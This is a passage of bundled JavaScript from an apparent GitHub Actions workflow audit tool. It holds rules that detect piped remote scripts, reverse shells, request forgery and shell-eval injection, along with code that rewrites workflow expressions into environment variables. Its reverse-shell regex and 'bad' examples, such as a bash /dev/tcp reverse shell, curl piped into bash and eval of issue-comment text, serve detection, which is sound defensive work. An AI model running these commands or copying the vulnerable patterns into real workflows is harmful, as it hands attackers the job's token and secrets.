    if (written === undefined || !/^(?:echo|printf|cat)\s/.test(statement) || !comesAsItIs(statement, step))
        return false;
    const others = [...(step.run?.text ?? '').matchAll(writesOutput)].some(([, name = '']) => name.toLowerCase() !== written);
    const id = step.id?.text.toLowerCase();
    // What is found by an expression, or handed on as a whole, may be any of them.
    const read = readsOf(run.file.file).some(([all, owner, name]) => !/\.(?:outcome|conclusion)$/i.test(all) && (owner === undefined || owner.toLowerCase() === id) && name?.toLowerCase() !== written);
    return others || (id !== undefined && read);
}
const writesOutput = /(?:echo|printf)\s{1,5}["']?([\w-]{1,100})(?:=|<<)[^\n]{0,300}GITHUB_OUTPUT/g;
/** Whether a part of a statement is all that somebody wrote, its lines among it. */
function comesAsItIs(statement, step) {
    const rest = statement.replace(/\$\{\{[^}]{0,300}\}\}/g, '').replace(wholeFile, '');
    if (/\$\(|`|\|/.test(rest))
        return false;
    if (/\$\{\{/.test(statement) || wholeFile.test(statement))
        return true;
    const script = step.run?.text ?? '';
    return [...statement.matchAll(/\$(?:\{([A-Za-z_]\w{0,100})\}|([A-Za-z_]\w{0,100}))/g)].some(([, braced, bare]) => {
        const name = braced ?? bare ?? '';
        return (0,parts/* variableOf */.Qn)(step, name)?.scalar !== undefined && !isSetIn(script, name);
    });
}
const wholeFile = /\$\(\s?(?:cat\s|<\s?)[^()|;&]{1,200}\)/;
function isSetIn(script, name) {
    return new RegExp(`\\b${name}\\+?=|\\bread\\b[^\\n]{0,100}\\b${name}\\b`).test(script);
}
/** Takes lines by how they begin, each by itself. */
const filtersLines = /\|\s{0,5}grep\s{1,5}(?:-v\s{1,5})?'\^[^'\n]{1,200}'/g;
/** The name above a value that has a mark at its end. */
const opensBefore = /(?:echo|printf)\s{1,5}["']?([\w-]{1,100})<<[^\n]{0,150}\n\s*$/;
/** Where a file reads what steps gave out: a file has thousands of steps that may write. */
const readsOf = (0,remembered/* rememberedOf */.M)(({ text }) => [
    ...text.matchAll(/\bsteps\b(?!\s{0,5}:)(?:\.([\w-]{1,100})\.(?:outcome\b|conclusion\b|outputs(?:\.([\w-]{1,100}))?(?![\w.[-])))?/gi),
]);

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/remote-script.js
// A script of the network that a job runs without having looked at it, and shells that are handed out.





const remote_script_shells = new Set(['sh', 'bash', 'zsh', 'dash', 'python', 'python3', 'node', 'perl', 'ruby', 'php']);
const remoteScriptExecution = (0,src_rule/* audit */.s)({
    id: 'remote-script-execution',
    aliases: ['unverified_script_exec', 'unverified-script-exec'],
    severity: 'medium',
    confidence: 'high',
    title: 'A download goes straight into a shell',
    why: 'Whoever controls the address, or the way to it, runs commands in this job with its token and secrets.',
    remedy: 'Download a released version, hold it against a digest that is written here, and run it then.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: ['https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse'],
    on: ['script-step'],
    *check(step, context) {
        const script = (0,src_script/* scriptOf */.YI)(step, context);
        if (script === undefined ||
            step.run === undefined ||
            !/\b(?:curl|wget|iwr|Invoke-WebRequest|irm|DownloadString)\b/i.test(step.run.text))
            return;
        for (const { name, args, command } of (0,src_script/* invocationsIn */.J3)(script)) {
            const fed = command.feeders.some((node) => node.kind === 'simple' && /^(?:curl|wget)$/.test(node.words[0]?.literal ?? ''));
            const given = /^(?:bash|sh|zsh|source|\.|eval)$/.test(name) &&
                command.node.words.some(({ text }) => /(?:<\(|\$\()\s{0,5}(?:sudo\s{1,5})?(?:curl|wget)\b/.test(text));
            // A file that is named is run, and what is piped in is its input.
            const reads = args.every((arg) => arg.startsWith('-')) || args.includes('-s') || args.includes('-');
            const { node } = command;
            if (fed && isPatch(name, args) && !namesCommit(step.run.text, command))
                yield { at: script.place(node), statement: step.map.at, message: `\`${name}\` changes the code by whatever the download brings` };
            if (!(fed && remote_script_shells.has(name) && reads) && !given)
                continue;
            // What an address with a commit's id brings is as fixed as an action that is pinned to one.
            if (fed && !given && namesCommit(step.run.text, command))
                continue;
            yield { at: script.place(node), statement: step.map.at, message: `\`${name}\` runs whatever the download brings` };
        }
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)('- run: curl -fsSL https://example.com/install.sh | bash'),
            (0,example/* stepsExample */.Y6)('- run: |\n    curl -fsSL https://example.com/fix.patch | git apply\n    make test'),
        ],
        good: [
            (0,example/* stepsExample */.Y6)('- run: make test'),
            (0,example/* stepsExample */.Y6)(`- run: curl -fsSL https://github.com/o/r/commit/${'ab12'.repeat(10)}.patch | git apply`),
            (0,example/* stepsExample */.Y6)(`- run: curl -fsSL https://raw.githubusercontent.com/o/r/${'ab12'.repeat(10)}/install.sh | sh -s -- -b bin`),
        ],
    },
});
/** Whether a program changes files by the patch that it is fed. */
function isPatch(name, args) {
    const [verb] = (0,program_words/* programWords */.O)(name, args);
    return (name === 'git' && (verb === 'apply' || verb === 'am')) || (name === 'patch' && !args.includes('-i'));
}
/** Addresses of hosts that answer with the files of a commit, by its id. */
const commitAddress = /^https:\/\/(?:raw\.githubusercontent\.com\/[^/]+\/[^/]+\/ID\/|gist\.githubusercontent\.com\/[^/]+\/[^/]+\/raw\/ID(?:\/|$)|github\.com\/[^/]+\/[^/]+\/(?:raw|commit)\/ID[/.]|gitlab\.com\/[^?#]+\/-\/(?:raw|commit)\/ID[/.]|cdn\.jsdelivr\.net\/gh\/[^/@]+\/[^/@]+@ID\/)/;
/** Whether all that is fetched has the id of a commit in its address, so that nobody can put another in its place. */
function namesCommit(text, { feeders }) {
    return feeders.every((node) => {
        if (node.kind !== 'simple' || !/^(?:curl|wget)$/.test(node.words[0]?.literal ?? ''))
            return true;
        // Whoever is not asked for a certificate answers with anything, and a file of settings may name more addresses.
        const words = node.words.slice(1).map(({ start, end }) => text.slice(start, end).replace(/^["']|["']$/g, ''));
        if (words.some((word) => /^(?:-[a-zA-Z]*[kK]|--insecure|--no-check-certificate|--config|-i|--input-file)/.test(word)))
            return false;
        const addresses = words.filter((word) => !word.startsWith('-') && /:\/\/|\$|^[\w-]+(?:\.[\w-]+)+\//.test(word));
        return addresses.length > 0 && addresses.every(isOfCommit);
    });
}
function isOfCommit(address) {
    return commitAddress.test(address.slice(0, 1000).replace(/\b[0-9a-f]{40}\b/, 'ID')) && !/\/\.\.?(?:\/|$)|%2e|[{}[\]]/i.test(address);
}
/** Facts: the forms that such commands have in public incidents and in guides for penetration tests. */
const reverse = /\/dev\/(?:tcp|udp)\/|\bnc(?:at)?\s(?:[^\n|;]{0,80}\s)?-[a-z]*[ec]\s|\bsocat\b[^\n|;]{0,120}\bexec:|\bmkfifo\b[^\n]{0,160}\bnc(?:at)?\b|socket\.socket[\s\S]{0,200}(?:subprocess|pty\.spawn|os\.dup2)|TCPSocket\.(?:open|new)[\s\S]{0,120}exec|fsockopen\([\s\S]{0,120}exec\(|New-Object\s{1,5}System\.Net\.Sockets\.TCPClient/i;
const reverseShell = (0,src_rule/* audit */.s)({
    id: 'reverse-shell',
    aliases: ['reverse-shell-detection'],
    severity: 'critical',
    confidence: 'medium',
    title: 'A script hands a shell to another host',
    why: 'Whoever sits at the other end runs commands in this job, with its token and secrets.',
    remedy: 'Take it out; if nobody of the team wrote it, treat every secret of the job as known and every build since as altered.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.poisoned,
    references: ['https://attack.mitre.org/techniques/T1059/'],
    on: ['script-step'],
    *check(step, context) {
        const { run } = step;
        const match = run === undefined ? null : reverse.exec(run.text);
        if (run === undefined || match === null || !isShell(run.text, match))
            return;
        yield {
            at: context.placeIn(run, match.index, match.index + match[0].length),
            statement: step.map.at,
            message: 'The script connects a shell to another host',
        };
    },
    examples: {
        bad: [(0,example/* stepsExample */.Y6)('- run: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')],
        good: [(0,example/* stepsExample */.Y6)('- run: timeout 5 bash -c "</dev/tcp/localhost/5432"')],
    },
});
/** `/dev/tcp` alone asks whether a port is open; a shell is handed out when it reads and writes there. */
function isShell(text, match) {
    if (!match[0].startsWith('/dev/'))
        return true;
    const around = text.slice(Math.max(0, match.index - 120), match.index + 160);
    const handedOut = /(?:bash|sh)\s{1,5}-i\b|0>&1|0<&\d/.test(around);
    // A service of the job itself is asked whether it listens.
    if (!handedOut && /^\/dev\/\w{3}\/(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|::1)\//i.test(text.slice(match.index, match.index + 40)))
        return false;
    return (/(?:bash|sh)\s{1,5}-i\b|0>&1|0<&\d|exec\s{1,5}\d{1,3}<>|>&\s{0,3}\/dev\/(?:tcp|udp)/.test(around) &&
        /\b(?:ba|z|da|k)?sh\b|exec/.test(around));
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/request-forgery.js
// An address that somebody else gives.




const requestForgery = (0,src_rule/* audit */.s)({
    id: 'request-forgery',
    aliases: ['request-forgery-critical', 'request-forgery-medium'],
    severity: 'medium',
    confidence: 'medium',
    title: 'Somebody else says which host a job asks',
    why: 'The job asks whatever it is told to, hosts of the internal network and of the cloud\u2019s own metadata among them, with the headers that it sends.',
    remedy: 'Write the host into the script, and hold what comes from outside against a pattern.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: ['https://owasp.org/www-community/attacks/Server_Side_Request_Forgery'],
    on: ['file'],
    *check(_, context) {
        for (const flow of flowsOf(context))
            if (flow.kind === 'request')
                yield flowProblem(flow, `\`${flow.taint.source.name}\` says which host \`${flow.what}\` asks`, 'chooses it');
    },
    examples: {
        bad: [
            {
                text: 'on: issues\njobs:\n  fetch:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PLACE: ${{ github.event.issue.body }}\n        run: curl -fsSL "$PLACE" -o file.txt\n',
            },
        ],
        good: [
            {
                text: 'name: fetch\non: issues\npermissions: {}\njobs:\n  fetch:\n    name: fetch\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          NUMBER: ${{ github.event.issue.number }}\n        run: curl -fsSL "https://example.com/issues/$NUMBER" -o file.txt\n',
            },
        ],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/shell-eval-injection.js
// A script that takes a variable for code.




const shellEvalInjection = (0,src_rule/* audit */.s)({
    id: 'shell-eval-injection',
    severity: 'high',
    confidence: 'medium',
    title: 'A script runs somebody else\u2019s text as code',
    why: '`eval`, `bash -c` and their like read the value as a script, whatever quotes stand around the variable.',
    remedy: 'Call the program with the value as an argument in quotes, and hold it against a pattern first.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: [
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#good-practices-for-mitigating-script-injection-attacks',
    ],
    on: ['file'],
    *check(_, context) {
        for (const flow of flowsOf(context))
            if (flow.kind === 'eval')
                yield flowProblem(flow, `\`${flow.what}\`${flow.script === undefined ? '' : ` in ${flow.script}`} takes \`${flow.taint.source.name}\` for code`, 'runs commands in this job');
    },
    examples: {
        bad: [
            {
                text: 'on: issue_comment\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: |\n          COMMAND="${BODY#/run }"\n          eval "$COMMAND"\n',
            },
            {
                text: 'on: issues\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - run: jq -r .issue.body "$GITHUB_EVENT_PATH" | sudo bash\n',
            },
            {
                text: 'on: issues\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "TITLE=$TITLE" > vars\n      - run: source ./vars\n',
            },
            {
                text: 'on: issues\njobs:\n  run:\n    runs-on: windows-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: Invoke-Expression "say $env:TITLE"\n',
            },
            {
                text: 'on: issues\njobs:\n  run:\n    runs-on: windows-latest\n    steps:\n      - shell: cmd\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "%TITLE%"\n',
            },
        ],
        good: [
            {
                text: 'name: run\non: issue_comment\npermissions: {}\njobs:\n  run:\n    name: run\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: |\n          COMMAND="${BODY#/run }"\n          case "$COMMAND" in\n            test|lint) eval "$COMMAND" ;;\n          esac\n',
            },
            {
                text: 'name: run\non: issues\npermissions: {}\njobs:\n  run:\n    name: run\n    runs-on: ubuntu-latest\n    steps:\n      - run: jq -r .issue.number "$GITHUB_EVENT_PATH" | sudo tee number\n',
            },
            {
                text: 'name: run\non: issues\npermissions: {}\njobs:\n  run:\n    name: run\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: printf "TITLE=%q\\n" "$TITLE" > vars\n      - run: source ./vars\n',
            },
            {
                text: 'name: run\non: issues\npermissions: {}\njobs:\n  run:\n    name: run\n    runs-on: windows-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: Write-Output "say $env:TITLE"\n',
            },
        ],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/bash-quote.js
// In which quotes of bash an offset of a script stands: quotes begin anew within `$(\u2026)` and backticks, and end before them nowhere.

/** Expressions hold no quotes that count, and neither do heredocs: an offset in one of these stands in none. */
function bashQuote(script, offset) {
    const spans = (0,find/* expressionsIn */.l)(script.slice(0, offset)).map(({ span }) => span);
    const reader = { script, frames: [{ end: '', open: undefined, depth: 0 }], heredocs: [] };
    let next = 0;
    for (let at = 0; at < offset; at++) {
        const span = spans[next];
        if (span !== undefined && at === span.start) {
            at = span.end - 1;
            next++;
            continue;
        }
        at = read(reader, at);
        while ((spans[next]?.start ?? Number.POSITIVE_INFINITY) <= at)
            next++;
    }
    const frame = bash_quote_top(reader);
    return frame.end === '))' ? '"' : frame.open;
}
function bash_quote_top({ frames }) {
    return frames.at(-1);
}
/** Reads what begins at an offset. @returns the last offset that belongs to it. */
function read(reader, at) {
    const { script } = reader;
    const frame = bash_quote_top(reader);
    const letter = script[at];
    if (frame.open === "'") {
        if (letter === "'")
            frame.open = undefined;
        return at;
    }
    if (letter === '\\')
        return at + 1;
    if (letter === '$' && script[at + 1] === '(')
        return enter(reader, at);
    if (letter === '`') {
        if (frame.end === '`')
            reader.frames.pop();
        else
            reader.frames.push({ end: '`', open: undefined, depth: 0 });
        return at;
    }
    if (frame.end !== '))' && letter === '"')
        frame.open = frame.open === undefined ? '"' : undefined;
    else if (frame.open === undefined)
        return readBare(reader, frame, at);
    return at;
}
function enter({ script, frames }, at) {
    const sum = script[at + 2] === '(';
    frames.push({ end: sum ? '))' : ')', open: undefined, depth: 0 });
    return at + (sum ? 2 : 1);
}
/** Outside of all quotes of its frame. */
function readBare(reader, frame, at) {
    const { script, heredocs } = reader;
    switch (script[at]) {
        case "'":
            if (frame.end !== '))')
                frame.open = "'";
            return at;
        case '(':
            frame.depth++;
            return at;
        case ')':
            return leave(reader, frame, at);
        case '#':
            return frame.end !== '))' && /^$|\s/.test(script.slice(Math.max(0, at - 1), at)) ? endOfLine(script, at) - 1 : at;
        case '<': {
            const word = frame.end === '))' || script[at - 1] === '<' ? undefined : heredoc(script, at);
            if (word !== undefined)
                heredocs.push(word);
            return at;
        }
        case '\n':
            return pastHeredocs(reader, at);
        default:
            return at;
    }
}
function leave({ frames, script }, frame, at) {
    if (frame.depth > 0)
        frame.depth--;
    else if (frame.end === ')' || frame.end === '))')
        frames.pop();
    return frame.depth === 0 && frame.end === '))' && script[at + 1] === ')' ? at + 1 : at;
}
function endOfLine(script, at) {
    const newline = script.indexOf('\n', at);
    return newline < 0 ? script.length : newline;
}
function heredoc(script, at) {
    return /^<<(?!<)-?[ \t]{0,5}["'\\]?([A-Za-z_]\w{0,60})/.exec(script.slice(at, at + 80))?.[1];
}
/** The line end behind the bodies of all heredocs that begin here. */
function pastHeredocs({ script, heredocs }, at) {
    let end = at;
    for (const word of heredocs.splice(0)) {
        const close = new RegExp(`^[ \\t]{0,80}${word}[ \\t]{0,5}$`, 'm').exec(script.slice(end + 1));
        end = close === null ? script.length : end + 1 + close.index + close[0].length;
    }
    return end === at ? at : end - 1;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/into-environment.js
// The fix of an injection: the expression moves into `env:`, and the script takes the variable, quoted as its shell wants it.







/** Expressions of one script that are put elsewhere: one with more is made by a program, and is rewritten there. */
const maxMoved = 100;
/** Those that one fix moves: each finding carries its fix, so that what is written grows with the square of it. */
const maxTogether = 20;
/**
 * The fixes of a file, undefined where no edit is certain to keep what the script does. A script is rewritten in one go, so that one patch
 * mends it whole, and is worked out once for all its findings.
 * @param told expressions of a script that are moved, by their order
 */
function environmentFixes(told, context) {
    const known = new Map();
    return ({ step, scalar, index, input }) => {
        if (scalar.alias !== undefined || step.map.alias !== undefined)
            return undefined;
        const fixes = known.get(scalar) ?? fixesOf(step, scalar, input, told(scalar), context);
        known.set(scalar, fixes);
        return fixes.get(index);
    };
}
function fixesOf(step, scalar, input, told, context) {
    const fixes = new Map();
    const moved = told.filter((index) => index < maxMoved);
    for (let at = 0; at < moved.length; at += maxTogether) {
        const moves = movesIn(step, scalar, input, moved.slice(at, at + maxTogether), context);
        const fix = fixOf(step, scalar, input, [...moves.values()], context);
        if (fix !== undefined)
            for (const index of moves.keys())
                fixes.set(index, fix);
    }
    return fixes;
}
function fixOf(step, scalar, input, moves, context) {
    const added = new Map(moves.flatMap(({ name, value }) => (value === undefined ? [] : [[name, value]])));
    const edits = added.size === 0 ? [] : (0,src_edits.addEntries)(context.file, step.map, 'env', [...added], { before: input === undefined ? 'run' : 'with' });
    if (edits === undefined)
        return undefined;
    const names = [...new Set(moves.map(({ name }) => `\`${name}\``))];
    return {
        description: `Hand the value${names.length === 1 ? '' : 's'} over in ${names.join(', ')}`,
        ...(moves.some(({ use }) => use.mayDiffer === true) ? { kind: 'suggested' } : {}),
        edits: [...edits, ...moves.map(({ use }) => ({ ...context.placeIn(scalar, use.start, use.end), replacement: use.text }))],
    };
}
/** The first variable of each meaning; worked out once for each `env:`. */
const byMeaning = (0,remembered/* rememberedOf */.M)((env) => new Map(env.toReversed().map((pair) => [meaningOfPair(pair), pair])));
function meaningOfPair({ scalar }) {
    return meaningOf(scalar?.text.trim() ?? '');
}
/** What a script calls a meaning already. The nearest counts: what a step calls by a name hides what its job calls so. */
function nameOf(meaning, step) {
    return (0,parts/* envsOf */.sr)(step)
        .map((env) => byMeaning(env).get(meaning))
        .find((pair) => pair !== undefined && (0,parts/* variableOf */.Qn)(step, pair.name) === pair)?.name;
}
/** The moves of a script that are certain, by the order of their expressions. */
function movesIn(step, scalar, input, together, context) {
    const found = (0,find/* expressionsIn */.l)(scalar.text);
    const given = new Map();
    const taken = (name) => {
        const pair = (0,parts/* variableOf */.Qn)(step, name);
        return given.get(name) ?? (pair === undefined ? undefined : meaningOfPair(pair));
    };
    const moves = new Map();
    for (const index of together) {
        const place = found[index];
        if (place === undefined || !place.closed || place.text.includes('\n'))
            continue;
        const expression = scalar.text.slice(place.span.start, place.span.end);
        const meaning = meaningOf(expression);
        // A shell knows a variable of another name by nothing.
        const free = (candidate) => /^[A-Za-z_]\w*$/.test(candidate) && !isSetBefore(scalar.text, place.span.start, candidate);
        const own = [readyVariable(place.text, step), nameOf(meaning, step)].find((candidate) => candidate !== undefined && free(candidate));
        const name = own ?? nameFor(place.text, meaning, (candidate) => (free(candidate) ? taken(candidate) : ''));
        const use = name === undefined ? undefined : useOf(step, scalar.text, input, place, name);
        if (name === undefined || use === undefined || !yamlSafe(expression))
            continue;
        const at = context.placeIn(scalar, use.start, use.end);
        const text = beginsWell(scalar, at.start, use.text) ? writtenIn(scalar, use.text) : asBlock(step, scalar, use.text, context);
        if (!standsThere(context.file.text, at, scalar.text.slice(use.start, use.end)) || text === undefined)
            continue;
        moves.set(index, { name, use: { ...use, text }, ...(own !== undefined || taken(name) !== undefined ? {} : { value: expression }) });
        given.set(name, meaning);
    }
    return moves;
}
function useOf(step, script, input, { span, text }, name) {
    if (input !== undefined)
        return inInput(input, script, span, name);
    const use = inScript(step, script, span.start, span.end, name);
    if (use?.mayDiffer !== true || !isOneWord(text))
        return use;
    const { mayDiffer: _, ...same } = use;
    return same;
}
/** Whether a value is one word by its nature: what GitHub says of itself, but for texts of commands, and what is named after such things. */
function isOneWord(text) {
    const tree = (0,parse/* parseExpression */.YK)(text);
    const way = tree.kind === 'mistake' ? undefined : (0,paths/* wayOf */.VO)(tree);
    const [context = '', part] = way ?? [];
    const last = way?.at(-1) ?? '';
    if (/(?:^|[_-])(?:sha\d*|ref|branch|tag|number|version|digest|commit|id|actor|login|repository|arch|os)$/i.test(last))
        return true;
    if (context === 'runner')
        return true;
    // A title is one thing, and quoted wherever it is meant to be used; a comment may be a command with its options.
    return context === 'github' && part !== 'event' ? true : context === 'github' && /^(?:title|name|label|email)$/.test(last);
}
/** Two texts of one meaning are the same expression, however it is written. */
function meaningOf(text) {
    const inner = /^\$\{\{([^{}]*)\}\}$/.exec(text)?.[1];
    const tree = inner === undefined ? undefined : (0,parse/* parseExpression */.YK)(inner);
    const way = tree === undefined || tree.kind === 'mistake' ? undefined : (0,paths/* wayOf */.VO)(tree);
    return way === undefined || way.includes(paths/* anyPart */.iA) ? text : (0,paths/* showWay */.VR)(way);
}
/** The runner's own variables that say what a context says, by the names of the contexts. */
const runnersOwn = new Set([
    ...'action_path action_ref action_repository actor actor_id api_url base_ref event_name graphql_url head_ref job ref ref_name ref_type'
        .split(' ')
        .map((name) => `github.${name}`),
    ...'repository repository_id repository_owner repository_owner_id run_attempt run_id run_number server_url sha triggering_actor'
        .split(' ')
        .map((name) => `github.${name}`),
    ...'workflow workflow_ref workflow_sha workspace'.split(' ').map((name) => `github.${name}`),
    ...'arch environment name os temp tool_cache'.split(' ').map((name) => `runner.${name}`),
]);
/** A variable that every step has for a way: `github.head_ref` is in `GITHUB_HEAD_REF`, and `env.NAME` in `NAME`. */
function readyVariable(text, step) {
    const tree = (0,parse/* parseExpression */.YK)(text);
    const way = tree.kind === 'mistake' ? undefined : (0,paths/* wayOf */.VO)(tree);
    if (way?.length !== 2)
        return undefined;
    const [context = '', name = ''] = way;
    const own = `${context}.${name}`;
    if (context !== 'env')
        return runnersOwn.has(own) && !into_environment_isOutside(own, step) ? `${context}_${name}`.toUpperCase() : undefined;
    const written = /\benv\s*\.\s*([A-Za-z_]\w*)/i.exec(text)?.[1];
    return (0,parts/* variableOf */.Qn)(step, name)?.name ?? written;
}
/** Whether the script itself gives the variable another value by then; `A=${{ \u2026 }}` gives it the one that it takes. */
function isSetBefore(script, start, name) {
    const before = script.slice(0, start);
    if (!before.includes(name))
        return false;
    return new RegExp(`(?:^|[\\s;&|({])${name}\\+?=(?!["']?(?![^]))|\\b(?:read|for|mapfile|unset)\\b[^\\n;|]{0,200}\\b${name}\\b`).test(before);
}
/** Folders that have one path for the runner, which an expression gives, and another within a container, which the variable gives. */
function into_environment_isOutside(way, { owner }) {
    return owner.kind === 'job' && owner.container !== undefined && /^(?:github\.workspace|runner\.(?:temp|tool_cache))$/.test(way);
}
/** A plain scalar in `env:` that YAML reads as it is written. */
function yamlSafe(expression) {
    return !/: | #|\n/.test(expression);
}
function standsThere(file, { start, end }, text) {
    return file.slice(start, end) === text;
}
/** With these YAML begins something else than plain text (YAML 1.2, section 5.3). */
const indicators = '"\'`{[&*!|>%@#-';
/** Whether YAML still takes a plain scalar for one: with a quote in front it ends where that does. */
function beginsWell({ at, plain }, start, text) {
    return !plain || start > at.start || !indicators.includes(text.charAt(0));
}
/** The beginning of a script on one line, which becomes a block; undefined where it has more lines, or a comment behind it. */
function asBlock(step, { at }, text, { file }) {
    const key = step.map.entries.find(({ name }) => name === 'run')?.key.at.start;
    const rest = file.text.slice(at.end, (0,src_edits/* lineEndAt */.fT)(file, at.end)).trim();
    if (key === undefined || key > at.start || (0,src_edits/* isFlow */.Td)(file, step.map) || rest !== '' || file.text.slice(at.start, at.end).includes('\n'))
        return undefined;
    return `|-${(0,src_edits/* lineEnd */.kd)(file)}${(0,src_edits/* indentationAt */.pi)(file, key)}  ${text}`;
}
/** As a scalar has it, whose quotes those of the script must not end; no quotes in what YAML reads with its escapes. */

/** From the last parts of the way, as a variable that says nothing else: `ISSUE_TITLE`. */
function nameFor(text, meaning, taken) {
    const tree = (0,parse/* parseExpression */.YK)(text);
    if (tree.kind === 'mistake')
        return undefined;
    const way = (0,paths/* wayOf */.VO)(tree)?.filter((part) => /^[\w-]+$/.test(part));
    const parts = way === undefined || way.length === 0
        ? ['value']
        : way.filter((part) => !['github', 'event', 'outputs', 'steps', 'needs'].includes(part));
    const name = (parts.length === 0 ? ['value'] : parts).slice(-3).join('_').replace(/\W/g, '_').toUpperCase();
    // Names of GitHub's own variables cannot be set.
    const own = /^(?:GITHUB|RUNNER|CI$|PATH$|HOME$)/.test(name) || /^\d/.test(name) ? `INPUT_${name}` : name;
    const names = [own, ...[2, 3, 4, 5].map((n) => `${own}_${n}`)];
    return names.find((candidate) => (taken(candidate) ?? meaning) === meaning);
}
function inScript(step, script, start, end, name) {
    if (!(0,src_shell/* isShellCertain */.xC)(step))
        return undefined;
    switch ((0,src_shell/* shellOf */.of)(step)) {
        case 'bash':
            return inBash(script, start, end, name);
        case 'pwsh':
            if (pwshQuote(script, start) !== "'")
                return { start, end, text: `\${env:${name}}`, ...(pwshQuote(script, start) === '"' ? {} : { mayDiffer: true }) };
            return isAloneIn("'", script, start, end) ? { start: start - 1, end: end + 1, text: `"\${env:${name}}"` } : undefined;
        // cmd puts variables in place before it reads a line, too.
        default:
            return undefined;
    }
}
function inBash(script, start, end, name) {
    if (inQuotedHeredoc(script, start))
        return undefined;
    const quote = bashQuote(script, start);
    const variable = `\${${name}}`;
    if (quote === '"')
        return { start, end, text: variable };
    if (quote === undefined && inHeredoc(script, start))
        return { start, end, text: variable };
    // In quotes a command with its arguments would be one name that no program has.
    if (quote === undefined && isCommand(script, start, end))
        return { start, end, text: variable, mayDiffer: true };
    if (quote === undefined)
        return { start, end, text: `"${variable}"`, ...(keepsWords(script, start) ? {} : { mayDiffer: true }) };
    // Alone in single quotes, the quotes go.
    if (isAloneIn("'", script, start, end))
        return { start: start - 1, end: end + 1, text: `"${variable}"` };
    return { start, end, text: `'"${variable}"'` };
}
/** Whether the shell makes no words of a value there, or `echo` puts them together again. */
function keepsWords(script, start) {
    const line = lineBefore(script, start);
    return /^\s*(?:echo\s|(?:export\s+)?\w+=\S*$)/.test(commandBefore(line)) || /\[\[\s[^\]]*$/.test(line);
}
/** Whether a value that people of the repository wrote is the whole first word of a command. */
function isCommand(script, start, end) {
    if (!/^\$\{\{\s{0,20}(?:matrix|inputs|vars|env)\b/.test(script.slice(start, end)) || !/^(?:\s|$)/.test(script.slice(end, end + 1)))
        return false;
    return (commandBefore(lineBefore(script, start)).trim() === '' && !/\\\r?\n[ \t]{0,200}$/.test(script.slice(Math.max(0, start - 300), start)));
}
function lineBefore(script, start) {
    return script.slice(Math.max(script.lastIndexOf('\n', start - 1) + 1, start - 500), start);
}
function commandBefore(line) {
    return line.slice(Math.max(0, ...[';', '|', '&', '`', '('].map((before) => line.lastIndexOf(before) + 1)));
}
function isAloneIn(quote, script, start, end) {
    return script[start - 1] === quote && script[end] === quote;
}
function pwshQuote(script, offset) {
    const line = script.slice(script.lastIndexOf('\n', offset - 1) + 1, offset);
    const singles = (line.match(/'/g) ?? []).length;
    const doubles = (line.match(/"/g) ?? []).length;
    if (doubles % 2 === 1)
        return '"';
    return singles % 2 === 1 ? "'" : undefined;
}
const heredocs = /<<-?[ \t]{0,5}(['"\\]?)([A-Za-z_]\w{0,60})/g;
function heredocAt(script, offset) {
    for (const match of script.matchAll(heredocs)) {
        const start = script.indexOf('\n', match.index);
        if (start < 0 || start > offset)
            continue;
        const close = new RegExp(`^[ \\t]{0,80}${match[2]}[ \\t]{0,5}$`, 'm').exec(script.slice(start + 1));
        if (close === null || offset < start + 1 + close.index)
            return { quoted: match[1] !== '' };
    }
    return undefined;
}
function inHeredoc(script, offset) {
    return heredocAt(script, offset) !== undefined;
}
function inQuotedHeredoc(script, offset) {
    return heredocAt(script, offset)?.quoted === true;
}
/** In JavaScript of actions/github-script: a text of its own, or part of a template. */
function inInput(input, script, { start, end }, name) {
    if (input.toLowerCase() !== 'script')
        return undefined;
    const variable = `process.env.${name}`;
    const [before, after] = [script[start - 1], script[end]];
    if ((before === "'" || before === '"' || before === '`') && before === after)
        return { start: start - 1, end: end + 1, text: variable };
    const line = script.slice(script.lastIndexOf('\n', start - 1) + 1, start);
    const ticks = (script.slice(0, start).match(/`/g) ?? []).length;
    if (ticks % 2 === 1)
        return { start, end, text: `\${${variable}}` };
    // Within a longer text in quotes the text would have to be taken apart.
    if ((line.match(/'/g) ?? []).length % 2 === 1 || (line.match(/"/g) ?? []).length % 2 === 1)
        return undefined;
    return { start, end, text: variable, mayDiffer: true };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/template-injection.js
// An expression that is put into a script before the shell reads it.










const templateInjection = (0,src_rule/* audit */.s)({
    id: 'template-injection',
    aliases: ['expression-injection', 'code-injection', 'code-injection-critical', 'code-injection-medium'],
    severity: 'high',
    confidence: 'high',
    title: 'An expression is put into a script, or into what runs it',
    why: 'The expression is replaced before anything reads the script or starts its container, so whoever controls its value writes part of it.',
